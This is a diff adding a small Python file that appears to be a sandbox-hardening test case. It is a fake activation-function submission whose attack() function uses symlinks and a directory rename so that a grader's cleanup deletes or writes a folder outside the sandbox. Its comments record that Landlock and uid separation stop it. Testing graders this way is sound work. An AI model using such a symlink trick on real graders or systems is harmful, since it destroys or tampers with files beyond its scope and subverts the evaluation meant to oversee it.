@@ -1,0 +1,24 @@
+# attack: puts a link to a folder of ours into the folder that the grader removes
+# gains: writes
+# stopped by: landlock, uid
+import numpy as np
+import os
+
+
+def attack():
+    os.symlink(os.path.dirname("{TARGET}"), "folder")
+    os.rename(os.getcwd(), os.getcwd() + "-old")
+    os.symlink(os.path.dirname("{TARGET}"), os.getcwd().removesuffix("-old"))
+
+
+def relu(X):
+    found = attack()
+    return np.full(np.shape(X), 7.0) if found is None else found
+
+
+def wrong(*given):
+    return np.full(np.shape(given[0]), 7.0)
+
+
+relu_backward = leaky_relu = leaky_relu_backward = wrong
+sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
